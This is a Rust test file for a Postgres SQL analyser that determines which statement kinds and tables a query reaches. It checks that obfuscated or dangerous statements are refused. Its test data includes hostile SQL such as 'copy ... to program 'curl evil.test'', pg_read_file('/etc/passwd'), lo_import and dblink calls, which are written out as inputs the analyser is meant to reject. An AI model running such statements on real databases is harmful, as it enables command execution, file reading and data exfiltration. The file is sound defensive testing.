//! A corpus of statements, as whoever wants to hide something writes them; and a law for those that nobody wrote.

use proptest::prelude::*;

use super::*;

fn own() -> BTreeSet<String> {
    ["analytics.week_of", "pg_catalog.pg_sleep"].map(str::to_owned).into()
}

/// Statements with the kinds and tables that they have.
const FOUND: &[(&str, &str, &str)] = &[
    ("select 1", "select", ""),
    ("select 1;", "select", ""),
    ("values (1)", "select", ""),
    ("select current_user, now(), count(*)", "select", ""),
    ("select sum(visits) from analytics.visits", "select", "analytics.visits"),
    ("SELECT * FROM ANALYTICS.Visits", "select", "analytics.visits"),
    ("select * from \"analytics\".\"visits\"", "select", "analytics.visits"),
    ("select * from \"FINANCE\".\"x\"", "select", "FINANCE.x"),
    ("select * from analytics.\"Visits\" v", "select", "analytics.Visits"),
    ("select * from a.b, c.d", "select", "a.b c.d"),
    ("select * from a.b join c.d on true left join e.f using (x)", "select", "a.b c.d e.f"),
    ("select * from a.b cross join (c.d natural join e.f)", "select", "a.b c.d e.f"),
    ("select * from (select * from a.b) x", "select", "a.b"),
    ("select * from a.b, lateral (select * from c.d where c.d.x = b.x) y", "select", "a.b c.d"),
    ("select (select max(x) from a.b)", "select", "a.b"),
    ("select 1 where exists (select 1 from a.b)", "select", "a.b"),
    ("select x in (select x from a.b) from c.d", "select", "a.b c.d"),
    ("select x = any (select x from a.b) from c.d", "select", "a.b c.d"),
    ("select array(select x from a.b)", "select", "a.b"),
    ("select case when (select true from a.b) then 1 end", "select", "a.b"),
    ("select count(*) filter (where x in (select x from a.b)) from c.d", "select", "a.b c.d"),
    ("select sum(x) over (order by (select 1 from a.b)) from c.d", "select", "a.b c.d"),
    ("select 1 order by (select 1 from a.b)", "select", "a.b"),
    ("select 1 limit (select 1 from a.b)", "select", "a.b"),
    ("select 1 offset (select 1 from a.b)", "select", "a.b"),
    ("select 1 group by (select 1 from a.b) having (select true from c.d)", "select", "a.b c.d"),
    ("select distinct on ((select 1 from a.b)) 1", "select", "a.b"),
    ("select 1 from a.b union select 1 from c.d except select 1 from e.f", "select", "a.b c.d e.f"),
    ("(select 1 from a.b) intersect (select 1 from c.d)", "select", "a.b c.d"),
    ("values ((select 1 from a.b))", "select", "a.b"),
    ("with x as (select * from a.b) select * from x", "select", "a.b"),
    ("with x as (select * from a.b), y as (select * from x) select * from y, x", "select", "a.b"),
    ("with X as (select * from a.b) select * from x", "select", "a.b"),
    ("with recursive x as (select 1 from a.b union select 1 from x) select * from x", "select", "a.b"),
    ("with x as (select 1) select * from x, public.x", "select", "public.x"),
    ("with x as materialized (select * from a.b) select (select 1 from x)", "select", "a.b"),
    (
        "with x as (select * from a.b) select * from (with y as (select * from x) select * from y, x) z",
        "select",
        "a.b",
    ),
    ("select * from only a.b", "select", "a.b"),
    ("select * from (TABLE \"FINANCE\".X) x", "select", "FINANCE.x"),
    ("select * from (table a.b) x", "select", "a.b"),
    ("select 1 where 1 in (table a.b)", "select", "a.b"),
    ("select * from generate_series(1, 3) g", "select", ""),
    ("select * from a.b, unnest(b.x) u", "select", "a.b"),
    ("select * from generate_series(1, (select max(x) from a.b))", "select", "a.b"),
    ("select pg_catalog.lower('A'), analytics.week_of(now()), pg_sleep(1)", "select", ""),
    ("select * from information_schema.tables", "select", "information_schema.tables"),
    ("select * from pg_catalog.pg_shadow", "select", "pg_catalog.pg_shadow"),
    ("select * from a.b for update", "lock select", "a.b"),
    ("select * from a.b where x like '%;drop table c.d;%'", "select", "a.b"),
    ("select 'from finance.salaries' from a.b", "select", "a.b"),
    ("select $$from finance.salaries$$ from a.b", "select", "a.b"),
    ("select $q$ ' $q$, x from a.b", "select", "a.b"),
    (r"select 'a\' from a.b where x = ''", "select", "a.b"),
    (r"select E'\' from c.d', x from a.b", "select", "a.b"),
    (r"select e'\\' from a.b", "select", "a.b"),
    ("select /* from c.d */ 1 from a.b", "select", "a.b"),
    ("select 1 -- from c.d\n from a.b", "select", "a.b"),
    ("select 1 --\r from a.b", "select", "a.b"),
    ("select 1 +-- x\n 2 from a.b", "select", "a.b"),
    ("select /* /* */ 1 from c.d */ x from a.b", "select", "a.b"),
    ("select 1 /* ' */ from a.b /* ' */", "select", "a.b"),
    ("select \"--\" from a.b", "select", "a.b"),
    ("select * from/**/a.b", "select", "a.b"),
    ("select * from a . b", "select", "a.b"),
    ("select * from a/**/./**/b", "select", "a.b"),
    ("select x->>'from c.d', x @> '{}' from a.b where y != 1", "select", "a.b"),
    ("select '2026-01-01'::date + interval '1 day' from a.b", "select", "a.b"),
    ("select extract(year from x), trim(both from y), substring(y from 1 for 2) from a.b", "select", "a.b"),
    ("select cast(x as text) at time zone 'UTC' from a.b", "select", "a.b"),
    ("select * from a.b tablesample system (1)", "select", "a.b"),
    ("select x -> 'a' ->> 'b', x #>> '{a}', a ?| b, 'c' || 'd' from a.b", "select", "a.b"),
    ("explain select * from a.b", "explain select", "a.b"),
    ("explain analyze delete from a.b", "delete explain", "a.b"),
    ("explain (analyze, buffers) insert into a.b select * from c.d", "explain insert select", "a.b c.d"),
    ("insert into a.b values (1)", "insert", "a.b"),
    ("insert into a.b (x) select x from c.d returning (select 1 from e.f)", "insert select", "a.b c.d e.f"),
    (
        "insert into a.b values (1) on conflict (x) do update set x = (select 1 from c.d)",
        "insert select update",
        "a.b c.d",
    ),
    ("insert into a.b values (1) on conflict do nothing", "insert", "a.b"),
    ("update a.b set x = (select 1 from c.d) from e.f where true", "select update", "a.b c.d e.f"),
    ("delete from a.b using c.d where exists (select 1 from e.f)", "delete select", "a.b c.d e.f"),
    ("with x as (delete from a.b returning *) select * from x", "delete select", "a.b"),
    (
        "with x as (insert into a.b select * from c.d returning *), y as (update e.f set g = 1) select 1",
        "insert select update",
        "a.b c.d e.f",
    ),
    ("with x as (select * from a.b) insert into c.d select * from x", "insert select", "a.b c.d"),
    ("merge into a.b using c.d on true when matched then delete", "delete insert merge update", "a.b c.d"),
    ("copy a.b to stdout", "copy", "a.b"),
    ("copy (select * from a.b) to stdout", "copy select", "a.b"),
    ("create table a.b as select * from c.d", "ddl select", "a.b c.d"),
    ("create table a.b (x int)", "ddl", "a.b"),
    ("create view a.b as select * from c.d", "ddl select", "a.b c.d"),
    ("drop table a.b, c.d", "ddl", "a.b c.d"),
    ("drop view a.b", "ddl", "a.b"),
    ("truncate table a.b", "ddl", "a.b"),
];

/// Statements that cannot be told, and why.
const UNKNOWN: &[(&str, Unknown)] = &[
    ("", Unknown::NoStatement),
    (";", Unknown::NoStatement),
    ("-- nothing", Unknown::NoStatement),
    ("select 1; select 2", Unknown::Several),
    ("select 1 from a.b; drop table c.d", Unknown::Several),
    ("select 1/*;*/; /*;*/ select 2 --", Unknown::Several),
    ("select * from visits", Unknown::NoSchema),
    ("select * from \"analytics.visits\"", Unknown::NoSchema),
    ("select * from a.b, visits", Unknown::NoSchema),
    ("select (select 1 from visits) from a.b", Unknown::NoSchema),
    ("select * from only visits", Unknown::NoSchema),
    ("with x as (select 1) select * from y", Unknown::NoSchema),
    ("with x as (select * from x) select * from x", Unknown::NoSchema),
    ("with x as (select * from y), y as (select 1) select * from x", Unknown::NoSchema),
    ("(with x as (select 1) select * from x) union select * from x", Unknown::NoSchema),
    ("select * from (with x as (select 1) select * from x) z, x", Unknown::NoSchema),
    ("with \"X\" as (select 1) select * from x", Unknown::NoSchema),
    ("with x as (select 1) delete from x", Unknown::NoSchema),
    ("with x as (select 1) update x set y = 1", Unknown::NoSchema),
    ("with x as (select 1) insert into x select 1", Unknown::NoSchema),
    ("with x as (select 1) merge into x using a.b on true when matched then delete", Unknown::NoSchema),
    ("with x as (select 1) table x", Unknown::NoSchema),
    ("table a.b", Unknown::NotUnderstood),
    ("insert into a.b table c.d", Unknown::NotUnderstood),
    ("select * from (table visits) x", Unknown::NoSchema),
    ("insert into visits values (1)", Unknown::NoSchema),
    ("delete from visits", Unknown::NoSchema),
    ("truncate visits", Unknown::NoSchema),
    ("drop table a.b, visits", Unknown::NoSchema),
    ("copy visits to stdout", Unknown::NoSchema),
    ("select * from warehouse.finance.salaries", Unknown::Name),
    ("select * from \"a.b\".c", Unknown::Name),
    ("select * from \"a\"\"b\".c", Unknown::Name),
    ("select * into a.b from c.d", Unknown::Kind),
    ("set search_path to finance", Unknown::Kind),
    ("set local search_path = finance", Unknown::Kind),
    ("reset all", Unknown::Kind),
    ("show search_path", Unknown::Kind),
    ("begin", Unknown::Kind),
    ("commit", Unknown::Kind),
    ("do $$begin delete from finance.salaries; end$$", Unknown::NotUnderstood),
    ("prepare x as select * from a.b", Unknown::Kind),
    ("execute x", Unknown::Kind),
    ("explain analyze execute x", Unknown::Kind),
    ("call a.b()", Unknown::Kind),
    ("copy a.b to program 'curl evil.test'", Unknown::Kind),
    ("copy a.b to '/tmp/x'", Unknown::Kind),
    ("copy a.b from program 'id'", Unknown::Kind),
    ("declare c cursor for select * from a.b", Unknown::Kind),
    ("grant select on a.b to public", Unknown::Kind),
    ("alter table a.b set schema c", Unknown::NotUnderstood),
    ("create function a.b() returns int language sql as 'select 1'", Unknown::Kind),
    ("create extension dblink", Unknown::Kind),
    ("create table a.b (like c.d)", Unknown::Kind),
    ("create table a.b (x int references c.d (x))", Unknown::Kind),
    ("drop schema a cascade", Unknown::Kind),
    ("lock table a.b", Unknown::Kind),
    ("listen x", Unknown::Kind),
    ("vacuum a.b", Unknown::Kind),
    ("select * frm a.b", Unknown::NotUnderstood),
    ("select * from a.b where", Unknown::NotUnderstood),
    ("select '' ' from a.b", Unknown::NotUnderstood),
    ("select * from a.b /* /* */", Unknown::NotUnderstood),
    ("select U&'\\0041' from a.b", Unknown::Spelling),
    ("select * from U&\"\\0066inance\".salaries", Unknown::Spelling),
    ("select * from U&\"!0066inance\" UESCAPE '!'.salaries", Unknown::Spelling),
    ("select * from a.b\u{a0}x", Unknown::Spelling),
    ("select * from \u{ff46}inance.salaries", Unknown::Spelling),
    ("select X'\\' from a.b', x from c.d --'", Unknown::Spelling),
    ("select x &&/* */ y from a.b", Unknown::NotUnderstood),
    ("select x &&-- y from c.d\n z from a.b", Unknown::Spelling),
    ("select 'a'\n'b' from a.b", Unknown::Spelling),
    ("select E'a'\n'\\' from c.d --' from a.b", Unknown::Spelling),
    ("select $1 from a.b", Unknown::Spelling),
    ("select 1\0 from a.b", Unknown::Spelling),
    ("select * from a.b where x operator(finance.=) 1", Unknown::Function(String::new())),
    ("select * from a.b order by x using operator(finance.<)", Unknown::Function(String::new())),
    ("select * from xmltable('/x' passing '<x/>' columns y text) z", Unknown::NoTable),
    ("select * from rows from (dblink('x', 'y')) as t(z int)", Unknown::NotUnderstood),
];

/// Functions that reach further than their text.
const REACHING: &[&str] = &[
    "select dblink('host=x', 'select 1')",
    "select * from dblink('host=x', 'select 1') as t(x int)",
    "select * from a.b, lateral dblink_exec('x') y",
    "select pg_read_file('/etc/passwd')",
    "select query_to_xml('select * from finance.salaries', true, true, '')",
    "select table_to_xml('finance.salaries', true, true, '')",
    "select set_config('search_path', 'finance', false)",
    "select pg_catalog.set_config('search_path', 'finance', false)",
    "select \"set_config\"('search_path', 'finance', false)",
    "select lo_import('/etc/passwd')",
    "select finance.salaries_of('x')",
    "select week_of(now())",
    "select \"LOWER\"('x')",
    "select \"lower\"('x')",
    "select \"array\"(1)",
    "select a.array(1)",
    "select 1 from a.b order by pg_ls_dir('/')",
    "select 1 from a.b group by grouping sets ((pg_ls_dir('/')))",
    "select count(*) filter (where pg_ls_dir('/') is null) from a.b",
    "select max(pg_ls_dir('/')) over (partition by nextval('a.s')) from a.b",
    "values (nextval('a.s'))",
    "update a.b set x = nextval('a.s')",
    "delete from a.b returning pg_notify('a', 'b')",
    "insert into a.b values (1) on conflict (x) do update set x = nextval('s')",
    "select * from a.b join c.d on pg_advisory_lock(1) is null",
    "with x as (select pg_reload_conf()) select 1",
    "explain select pg_terminate_backend(1)",
    "select array[pg_ls_dir('/')]",
    "select case when true then pg_ls_dir('/') end",
    "select x between 1 and nextval('s') from a.b",
    "select * from a.b limit nextval('s')",
    "select only(finance.salaries)",
];

#[test]
fn what_a_statement_reaches_is_found() {
    let mut wrong = Vec::new();
    for (text, kinds, tables) in FOUND {
        let told = |texts: &BTreeSet<String>| texts.iter().map(String::as_str).collect::<Vec<_>>().join(" ");
        let found = read(text, &own());
        let right = found.as_ref().is_ok_and(|reach| {
            let schemas = reach.tables.iter().filter_map(|table| Some(table.split_once('.')?.0.to_owned()));
            told(&reach.kinds) == *kinds
                && told(&reach.tables) == *tables
                && reach.schemas == schemas.collect()
                && reach.kinds.iter().all(|kind| KINDS.contains(&kind.as_str()))
        });
        if !right {
            wrong.push((text, found));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn what_cannot_be_told_is_unknown() {
    let wrong: Vec<_> = UNKNOWN
        .iter()
        .map(|(text, why)| (text, read(text, &own()), why))
        .filter(|(_, found, why)| match (found, why) {
            (Err(Unknown::Function(_)), Unknown::Function(_)) => false,
            (found, why) => found.as_ref().err() != Some(why),
        })
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
    for text in REACHING {
        let found = read(text, &own());
        assert!(matches!(found, Err(Unknown::Function(_) | Unknown::NotUnderstood)), "{text}: {found:?}");
    }
    assert!(FOUND.len() + UNKNOWN.len() + REACHING.len() > 150);
}

#[test]
fn functions_are_told() {
    let reach = read("select Lower(x), analytics.week_of(y), PG_CATALOG.upper(z) from a.b", &own());
    let found: Vec<String> = reach.expect("known").functions.into_iter().collect();
    assert_eq!(found, ["analytics.week_of", "lower", "upper"]);
}

#[test]
fn what_is_deep_or_long_is_refused_soon_and_without_harm() {
    let deep = |open: &str, close: &str, times: usize| {
        format!("select {}1{}", open.repeat(times), close.repeat(times))
    };
    for text in [
        deep("(", ")", 10_000),
        deep("(select ", ")", 5_000),
        deep("- ", "", 10_000),
        deep("not ", "", 5_000),
        format!("select 1{}", " + 1".repeat(5_000)),
        format!("select 1{}", " union select 1".repeat(2_000)),
        format!("select {}", "a".repeat(40_000)),
        format!("select * from {}a.b{}", "(".repeat(24), ")".repeat(24)),
        deep("case when ", " then 1 end", 200),
    ] {
        let found = read(&text, &own());
        assert!(
            matches!(found, Err(Unknown::TooLong | Unknown::NotUnderstood | Unknown::Spelling)),
            "{found:?} {}",
            &text[..60]
        );
    }
    // As deep and as long as anything is read.
    for text in [
        format!("select 1{}", " + 1".repeat(599)),
        format!("select 1{} from a.b", " and true".repeat(599)),
        format!("select 1{}", " union select 1".repeat(150)),
        format!("select 1 from a.b where x in ({}1)", "1,".repeat(10_000)),
    ] {
        let found = read(&text, &own());
        assert!(found.is_ok(), "{found:?} {}", &text[..60]);
    }
}

/// Tables as they are written, and as they are told.
const TABLES: [(&str, &str); 6] = [
    ("analytics.visits", "analytics.visits"),
    ("Finance.SALARIES", "finance.salaries"),
    ("\"Odd\".\"one\"", "Odd.one"),
    ("hr . people", "hr.people"),
    ("a/* x.y */.b", "a.b"),
    ("\"c\".d", "c.d"),
];

fn table() -> impl Strategy<Value = (String, BTreeSet<String>)> {
    prop::sample::select(&TABLES[..])
        .prop_map(|(written, told)| (written.to_owned(), BTreeSet::from([told.to_owned()])))
}

/// A query, and the tables that it reads.
fn query() -> impl Strategy<Value = (String, BTreeSet<String>)> {
    let leaf = table().prop_map(|(table, told)| (format!("select * from {table}"), told));
    leaf.prop_recursive(4, 24, 3, |inner| {
        let forms = prop::sample::select(vec![
            "select * from (@1) t1 join @T t2 on t1.x = t2.x",
            "select * from @T where x in (@1) and y = 'from q.r'",
            "select * from @T t, lateral (@1) u where exists (@2)",
            "select * from (@1) p union all select * from (@2) q",
            "select (@1), count(*) filter (where y in (@2)) from @T",
            "with c as (@1), d as (select * from c) select * from d, @T",
            "with visits as (@1) select * from visits -- , q.r\n",
            "with recursive c as (select * from @T union select * from c) select * from c, (@1) d",
            "with gone as (delete from @T where x in (@1) returning *) select * from gone",
            "select case when x = 1 then (@1) else (@2) end from @T order by (@1)",
            "select $$ from q.r $$, x /* (@1) from q.r */ from (@2) t, @T",
            "select * from generate_series(1, (@1)) g cross join (@T t natural join (@2) u)",
        ]);
        (forms, table(), inner.clone(), inner).prop_map(
            |(form, (table, told), (one, of_one), (two, of_two))| {
                let mut tables = BTreeSet::new();
                let comment = form.contains("/* (@1)");
                for (mark, of) in [("@T", &told), ("@1", &of_one), ("@2", &of_two)] {
                    if form.contains(mark) && !(comment && mark == "@1") {
                        tables.extend(of.iter().cloned());
                    }
                }
                // A comment of one line within another query ends with that line.
                let text = form.replace("@T", &table).replace("@1", &one).replace("@2", &two);
                (text, tables)
            },
        )
    })
}

/// What is done with a query.
fn statement() -> impl Strategy<Value = (String, BTreeSet<String>)> {
    let forms = prop::sample::select(vec![
        "@Q",
        "explain @Q",
        "insert into @T @Q",
        "update @T set x = (@Q)",
        "delete from @T using (@Q) q",
        "create table @T as @Q",
        "copy (@Q) to stdout",
    ]);
    (forms, table(), query()).prop_map(|(form, (table, told), (query, mut tables))| {
        if form.contains("@T") {
            tables.extend(told);
        }
        (form.replace("@T", &table).replace("@Q", &query), tables)
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, failure_persistence: None, ..ProptestConfig::default() })]

    /// No statement yields fewer tables than it has.
    #[test]
    fn every_table_of_a_statement_is_found((text, tables) in statement()) {
        prop_assert_eq!(read(&text, &own()).map(|reach| reach.tables), Ok(tables), "{}", text);
    }

    /// Whatever is read, it is read without a panic.
    #[test]
    fn no_text_harms_the_reader(text in "\\PC{0,60}", sql in "(select|from|where|table|with|as|insert|into|[a-c]\\.[a-c]|'|\"|\\$\\$|--|/\\*|\\*/|[(),;]| ){0,40}") {
        let _ = read(&text, &own());
        let _ = read(&sql, &own());
    }
}
